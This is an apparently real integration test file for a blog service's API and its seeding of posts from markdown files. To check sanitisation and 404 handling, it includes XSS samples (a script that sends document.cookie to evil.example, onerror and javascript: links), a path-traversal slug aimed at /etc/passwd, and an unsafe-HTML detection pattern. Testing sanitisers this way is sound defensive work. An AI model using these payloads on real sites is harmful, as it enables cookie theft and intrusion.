import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MongoClient } from 'mongodb';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from '../../tools/stack/paths.mjs';
import { appEnvironment } from '../../tools/stack/profiles.mjs';
import { killStartedProcesses, runNode } from '../support/processes';
import { api, eventually, gatewayUrl, mongoUri, profile, requestFrom, startComponentNamed, stopComponentNamed } from '../support/stack';

// The blog through the gateway, NATS and blog-service to FerretDB, and the seeding of the posts
// from the repository's files (apps/blog-service/content/posts).
const SUMMARY_FIELDS = ['author', 'date', 'slug', 'summary', 'title'];
const UNSAFE_HTML = /<script|<iframe|<img|<style|\son\w+\s*=|javascript:|data:text/i;

describe('blog', () => {
  const mongo = new MongoClient(mongoUri);
  const posts = () => mongo.db().collection('blogPosts');
  beforeAll(() => mongo.connect());
  afterAll(() => mongo.close());

  describe('GET /api/blog', () => {
    it('lists the 8 posts, newest first, with title, summary, author and date only', async () => {
      const { status, body } = await api('/api/blog');
      expect(status).toBe(200);
      expect(body.posts).toHaveLength(8);
      for (const post of body.posts) {
        expect(Object.keys(post).sort()).toEqual(SUMMARY_FIELDS);
        expect(post.date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      }
      const dates = body.posts.map((p: { date: string }) => p.date);
      expect(dates).toEqual([...dates].sort().reverse());
      const stored = await posts().find({}, { projection: { _id: 0, slug: 1 } }).toArray();
      expect(body.posts.map((p: { slug: string }) => p.slug).sort()).toEqual(stored.map((p) => p.slug).sort());
    });

    // node:http rather than fetch: fetch adds `Cache-Control: no-cache` to a request with
    // If-None-Match (as the Fetch standard says), which rightly makes the server answer in full.
    it.each(['/api/blog', '/api/blog/typing-speed'])('%s is cacheable: Cache-Control public with a max-age, and an ETag that answers 304', async (path) => {
      const first = await requestFrom('127.0.0.1', `${gatewayUrl}${path}`);
      expect(first.status).toBe(200);
      expect(first.headers['cache-control']).toMatch(/^public, max-age=\d+$/);
      const etag = first.headers.etag as string;
      expect(etag).toBeTruthy();
      const again = await requestFrom('127.0.0.1', `${gatewayUrl}${path}`, { headers: { 'If-None-Match': etag } });
      expect(again.status).toBe(304);
      expect(again.body).toBe('');
      const stale = await requestFrom('127.0.0.1', `${gatewayUrl}${path}`, { headers: { 'If-None-Match': 'W/"something-else"' } });
      expect(stale.status).toBe(200);
    });
  });

  describe('GET /api/blog/:slug', () => {
    it('answers every listed post with its sanitised HTML, as stored', async () => {
      const { body: list } = await api('/api/blog');
      for (const summary of list.posts) {
        const { status, body } = await api(`/api/blog/${summary.slug}`);
        expect(status, summary.slug).toBe(200);
        expect(body).toMatchObject(summary);
        expect(body.content).toMatch(/^<(p|h2)>/);
        expect(body.content).not.toMatch(UNSAFE_HTML);
        const stored = await posts().findOne({ slug: summary.slug });
        expect(stored?.content).toBe(body.content);
      }
    });

    it.each(['no-such-post', 'Typing-Speed', 'typing_speed', '..%2F..%2Fetc%2Fpasswd', `${'a'.repeat(101)}`])(
      "answers %s with a JSON 404 'Post not found'",
      async (slug) => {
        const { status, body } = await api(`/api/blog/${slug}`);
        expect(status).toBe(404);
        expect(body).toEqual({ statusCode: 404, message: 'Post not found' });
      },
    );
  });

  describe('seeding', () => {
    afterEach(() => killStartedProcesses());

    it('is idempotent: a restarted blog-service leaves the same 8 documents untouched', async () => {
      const before = await posts().find({}, { projection: { slug: 1, updatedAt: 1, contentHash: 1 } }).sort({ slug: 1 }).toArray();
      expect(before).toHaveLength(8);
      await stopComponentNamed('blog-service');
      await startComponentNamed('blog-service');
      const answered = await eventually(
        () => api('/api/blog'),
        (r) => r.status === 200,
        45_000,
      );
      expect(answered.body.posts).toHaveLength(8);
      const after = await posts().find({}, { projection: { slug: 1, updatedAt: 1, contentHash: 1 } }).sort({ slug: 1 }).toArray();
      expect(after).toEqual(before);
    });

    describe('from a folder of post files (a blog-service of its own, on a database of its own)', () => {
      const database = `${profile.database}_seed_${randomUUID().slice(0, 8)}`;
      const dir = mkdtempSync(join(tmpdir(), 'fluent-posts-'));
      const seeded = () => mongo.db(database).collection('blogPosts');
      afterAll(async () => {
        rmSync(dir, { recursive: true, force: true });
        await mongo.db(database).dropDatabase();
      });

      /** Runs blog-service until it has seeded, and returns what it reported. No NATS: it never joins the real queue group. */
      async function seed(): Promise<Record<string, number>> {
        const service = runNode([join(ROOT, 'apps/blog-service/dist/main.js')], {
          ...appEnvironment(profile, 'blog-service'),
          NATS_URL: 'nats://127.0.0.1:1',
          MONGODB_URI: `mongodb://127.0.0.1:${profile.ports.mongo}/${database}`,
          BLOG_CONTENT_DIR: dir,
        });
        const line = await service.waitForLine(/Blog posts seeded/, 30_000);
        service.kill('SIGKILL');
        await service.exited;
        return JSON.parse(/: (\{.*\})$/.exec(JSON.parse(line).msg)![1]!);
      }

      const postFile = (slug: string, body: string) =>
        writeFileSync(
          join(dir, `${slug}.md`),
          ['---', `slug: ${slug}`, `title: Post ${slug}`, 'date: 2026-03-03', 'author: Test Author', 'summary: A test post.', '---', body, ''].join('\n'),
        );

      it('stores a post with a script, onerror and javascript: payload sanitised', async () => {
        postFile(
          'payload',
          [
            'Keep your place while you type.',
            '',
            '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
            '',
            '<p>Tip <img src="x" onerror="alert(document.cookie)"> <a href="javascript:alert(1)" onclick="steal()">here</a></p>',
            '',
            '<a href="JaVaScRiPt:alert(2)">again</a> and [a link](javascript:alert(3))',
          ].join('\n'),
        );
        expect(await seed()).toEqual({ insert: 1, update: 0, unchanged: 0, remove: 0 });
        const stored = await seeded().findOne({ slug: 'payload' });
        expect(stored?.content).toContain('<p>Keep your place while you type.</p>');
        expect(stored?.content).toContain('<a>here</a>');
        expect(stored?.content).not.toMatch(/<script|document\.cookie|onerror|onclick|<img|href="javascript/i);
      });

      it('seeds again without writing, updates a changed post and removes a deleted one', async () => {
        const first = await seeded().findOne({ slug: 'payload' });
        expect(await seed()).toEqual({ insert: 0, update: 0, unchanged: 1, remove: 0 });
        expect(await seeded().countDocuments()).toBe(1);
        expect(await seeded().findOne({ slug: 'payload' })).toEqual(first);

        postFile('payload', 'New advice.');
        postFile('second', 'More advice.');
        expect(await seed()).toEqual({ insert: 1, update: 1, unchanged: 0, remove: 0 });
        const updated = await seeded().findOne({ slug: 'payload' });
        expect(updated?._id).toEqual(first?._id);
        expect(updated?.content).toBe('<p>New advice.</p>');

        unlinkSync(join(dir, 'payload.md'));
        expect(await seed()).toEqual({ insert: 0, update: 0, unchanged: 1, remove: 1 });
        expect((await seeded().find().toArray()).map((p) => p.slug)).toEqual(['second']);
      });
    });
  });
});
